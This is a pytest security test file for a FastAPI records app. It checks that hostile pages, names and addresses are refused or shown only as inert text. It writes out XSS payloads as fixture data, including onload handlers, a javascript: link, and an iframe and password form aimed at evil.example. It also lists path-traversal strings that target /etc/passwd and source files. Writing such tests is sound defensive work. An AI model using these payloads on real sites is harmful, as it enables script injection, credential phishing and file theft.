"""What an attacker would try, beside what stands with accounts, forms and the guard: refused, and told so."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from lxml import html

from tests.desk.conftest import HERE, HOSTILE, POSTING, hostile
from verbale.desk.app import make_app
from verbale.desk.guard import LARGEST, LARGEST_PAGE
from verbale.minutes.database import open_database
from verbale.minutes.dossiers import open_dossier
from verbale.minutes.filing import file_reading

PAGE = f"""<html><body onload=alert(1)><article><p>The minister of {HOSTILE} refused.</p>
<a href="javascript:alert(4)">here</a><iframe src="https://evil.example"></iframe>
<form action="https://evil.example"><input name=password></form><style>body{{display:none}}</style>
<svg onload=alert(5)></svg></article></body></html>"""


@pytest.fixture(scope="module")
def attacked(tmp_path_factory: pytest.TempPathFactory) -> Iterator[TestClient]:
    """A desk in whose one dossier a hostile page is filed, under a hostile name."""
    database = open_database(f"sqlite:///{tmp_path_factory.mktemp('attacked') / 'minutes.db'}")
    with database.writing() as connection:
        dossier = open_dossier(connection, HOSTILE, by=HOSTILE, moment="2026-03-01")
        file_reading(connection, dossier, hostile(), PAGE.encode(), by=HOSTILE, moment="2026-03-06")
    with TestClient(make_app(database, reviewer=HOSTILE), base_url=HERE, headers=POSTING) as client:
        yield client
    database.close()


@pytest.mark.parametrize(
    "path",
    [
        "/", "/account", "/accounts", "/audit", "/search?q=refused", f"/sign-in?next={HOSTILE}", "/dossiers/~1",
        "/dossiers/~1/articles", "/dossiers/~1/articles/1", "/dossiers/~1/articles/1/original",
        "/dossiers/~1/positions",
        "/dossiers/~1/entries/1", "/dossiers/~1/entries/1/edit", "/dossiers/~1/history", "/dossiers/~1/review",
        "/dossiers/~1/review/figures", "/dossiers/~1/review/all/reject", "/dossiers/~1/add", "/nowhere",
    ],
)  # fmt: skip
def test_what_a_page_or_a_name_says_never_becomes_markup(attacked: TestClient, path: str) -> None:
    answer = attacked.get(path)
    page = html.document_fromstring(answer.content)
    assert answer.status_code in (200, 404)
    assert not page.cssselect("script:not([src^='/static/']), img:not([src^='/']), iframe, style, [onload], [onerror]")
    assert not page.cssselect("a[href^=javascript], form[action*=evil], input[name=password]:not([autocomplete])")


def test_json_that_a_browser_opens_is_not_read_as_a_page(attacked: TestClient) -> None:
    answer = attacked.get("/api/dossiers/~1/articles/1")
    assert answer.headers["content-type"] == "application/json"
    assert answer.headers["x-content-type-options"] == "nosniff"


def test_a_page_as_it_came_is_kept_as_a_file_and_never_opened(attacked: TestClient) -> None:
    answer = attacked.get("/dossiers/~1/articles/1/page")
    assert answer.content == PAGE.encode()
    assert answer.headers["content-type"] == "application/octet-stream"
    assert answer.headers["content-disposition"].startswith("attachment")


@pytest.mark.parametrize(
    "path",
    [
        "/dossiers/..%2f..%2f..%2fetc%2fpasswd", "/dossiers/~1/..%2f..%2fetc%2fpasswd", "/dossiers/%2e%2e/%2e%2e",
        "/dossiers/~1/articles/..%2f1", "/static/..%2fapp.py", "/static/%2e%2e%2fapp.py", "/static//etc/passwd",
        "/api/dossiers/~1/pages/..%2f..%2fx", "/dossiers/~1/add/..%2fx", "/dossiers/%00", "/static/%00",
    ],
)  # fmt: skip
def test_no_address_leads_to_a_file(attacked: TestClient, path: str) -> None:
    answer = attacked.get(path)
    assert answer.status_code in (400, 404)
    assert "root:" not in answer.text
    assert "def " not in answer.text


@pytest.mark.parametrize(
    ("path", "most"),
    [
        ("/dossiers/~1/add", LARGEST_PAGE),
        ("/api/dossiers/~1/pages", LARGEST_PAGE),
        ("/dossiers/~1/entries/1/reject", LARGEST),
        ("/accounts", LARGEST),
        ("/sign-in", LARGEST),
    ],
)
def test_an_oversized_upload_is_refused_before_it_is_read(attacked: TestClient, path: str, most: int) -> None:
    answer = attacked.post(path, content=b"", headers={"content-length": str(most + 1)})
    assert answer.status_code == 413
    assert f"larger than {most:,} bytes" in answer.text


def test_an_upload_of_unknown_length_is_refused(attacked: TestClient) -> None:
    answer = attacked.post("/dossiers/~1/add", content=iter([b"x"] * 3))
    assert answer.status_code == 413
    assert "of no known length" in answer.text


def test_a_database_that_is_out_of_reach_is_told_without_its_insides(tmp_path: Path) -> None:
    database = open_database(f"sqlite:///{tmp_path / 'minutes.db'}")
    client = TestClient(make_app(database), base_url=HERE, raise_server_exceptions=False)
    database.close()
    (tmp_path / "minutes.db").write_bytes(b"no database at all" * 100)
    for side in ("minutes.db-wal", "minutes.db-shm"):
        (tmp_path / side).unlink(missing_ok=True)
    answer = client.get("/api/dossiers")
    assert answer.status_code == 503
    assert "Traceback" not in answer.text
    assert "SELECT" not in answer.text
    assert "minutes.db" not in answer.text
